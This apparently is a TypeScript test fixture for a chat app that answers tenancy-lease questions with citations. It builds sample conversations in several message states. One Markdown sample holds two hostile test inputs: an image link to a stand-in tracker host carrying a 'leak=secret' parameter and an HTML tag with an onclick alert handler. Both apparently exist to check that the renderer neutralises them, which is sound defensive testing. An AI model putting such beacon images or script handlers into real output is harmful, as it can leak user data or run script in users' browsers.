import type { Conversation, Message } from '../../../shared/contract/types.ts';
import { before, day, minute } from './base.ts';
import { citations, leaseText } from './citations.ts';

export const message = (part: Partial<Message> & Pick<Message, 'id' | 'role' | 'text'>): Message => ({
  createdAt: before(8 * minute),
  mode: 'generate',
  model: part.role === 'assistant' ? 'qwen3:8b' : null,
  state: 'complete',
  errorCode: null,
  citations: [],
  abstained: false,
  dropped: 0,
  tokens: null,
  milliseconds: null,
  ...part,
});

export const answerText = `You may end the lease with **three months’ notice** to the end of a calendar month [1]. The landlord’s own period grows with the length of the tenancy: six months after five years [2].

Nothing in the contract lets either side shorten your period; a change needs a signed addendum. The e-mail of 4 March offers two months, but no addendum is among your documents [3].`;

const markdownText = `### What the papers say

| Item | Paid by | Amount |
| --- | --- | ---: |
| Heating | tenant | 1,240 € |
| Caretaker | landlord | 380 € |

1. The landlord **must** send the statement within *twelve months*.
2. You have a year to object; see [the law](https://www.gesetze-im-internet.de/bgb/__556.html).
   - in writing
   - with reasons

> Operating costs follow the area of the flat.

- [x] statement received
- [ ] objection sent

![map of the house](https://tracker.example/pixel.png?leak=secret)

<b onclick="alert(1)">Raw HTML stays text.</b> Plain address: https://example.org/path

\`\`\`python
def share(total: float, area: float, all_areas: float) -> float:
    """The part of the costs that falls on one flat."""
    return total * area / all_areas
\`\`\``;

const talk = (
  id: string,
  title: string,
  ago: number,
  messages: Message[],
  collectionId: string | null = 'tenancy',
): Conversation => ({
  id,
  title,
  updatedAt: before(ago),
  collectionId,
  messages,
});

const notices: Message[] = [
  message({
    id: 'n1',
    role: 'user',
    text: 'How long is the notice period if I want to leave, and can the landlord shorten it?',
  }),
  message({ id: 'n2', role: 'assistant', text: answerText, citations, tokens: 171, milliseconds: 6100 }),
];

const states: Message[] = [
  message({ id: 's1', role: 'user', text: 'Does the lease mention a cat?' }),
  message({ id: 's2', role: 'assistant', text: '', abstained: true, milliseconds: 900, tokens: 12 }),
  message({ id: 's3', role: 'user', text: 'Sum up the handover protocol.' }),
  message({
    id: 's4',
    role: 'assistant',
    text: 'The handover took place on 1 September 2021. The meter readings were',
    state: 'stopped',
  }),
  message({ id: 's5', role: 'user', text: 'And the deposit?' }),
  message({ id: 's6', role: 'assistant', text: '', state: 'failed', errorCode: 'model_too_large' }),
  message({ id: 's7', role: 'user', text: 'Once more, please.' }),
  message({
    id: 's8',
    role: 'assistant',
    text: 'The deposit is three times',
    state: 'interrupted',
    errorCode: 'engine_stopped',
  }),
  message({ id: 's9', role: 'user', text: 'What does the contract say about the deposit?' }),
  message({
    id: 's10',
    role: 'assistant',
    text: 'The deposit is three months’ rent [1].',
    dropped: 2,
    citations: [{ ...citations[1]!, number: 1, support: 'not_found' }],
    tokens: 40,
    milliseconds: 2100,
  }),
];

const quotes: Message[] = [
  message({ id: 'q1', role: 'user', text: 'What is the notice period?', mode: 'quotes' }),
  message({
    id: 'q2',
    role: 'assistant',
    mode: 'quotes',
    model: null,
    text: citations.map((one) => `> ${one.quote} [${one.number}]`).join('\n\n'),
    citations: [
      citations[0]!,
      {
        ...citations[1]!,
        passage: {
          ...citations[1]!.passage,
          start: 4000,
          text: `${leaseText} ${leaseText} ${citations[1]!.passage.text} ${leaseText}`,
        },
        start: 4000 + 2 * (leaseText.length + 1) + 45,
        end: 4000 + 2 * (leaseText.length + 1) + 84,
      },
    ],
    milliseconds: 84,
  }),
];

const long: Message[] = Array.from({ length: 400 }, (_, at) =>
  message(
    at % 2 === 0
      ? { id: `l${at}`, role: 'user', text: `Question ${at / 2 + 1}: what follows?` }
      : { id: `l${at}`, role: 'assistant', text: `${answerText}\n\n${markdownText}`, citations },
  ),
);

export const conversations: Conversation[] = [
  talk('notice', 'Notice periods in the lease', 8 * minute, notices),
  talk('promised', 'What the landlord promised', 50 * minute, quotes),
  talk('states', 'Deposit, handover and a cat', day, states),
  talk(
    'costs',
    'Heating costs, checked line by line',
    3 * day,
    [
      message({ id: 'c1', role: 'user', text: 'Check the statement.', mode: 'chat' }),
      message({ id: 'c2', role: 'assistant', text: markdownText, mode: 'chat', tokens: 310, milliseconds: 11_000 }),
    ],
    null,
  ),
  talk('long', 'Minutes, summed up for Ana and the whole housing committee', 12 * day, long),
  talk(
    'travel',
    'Travel rules, in short',
    90 * day,
    notices.map((one) => ({ ...one, id: `t${one.id}` })),
  ),
];
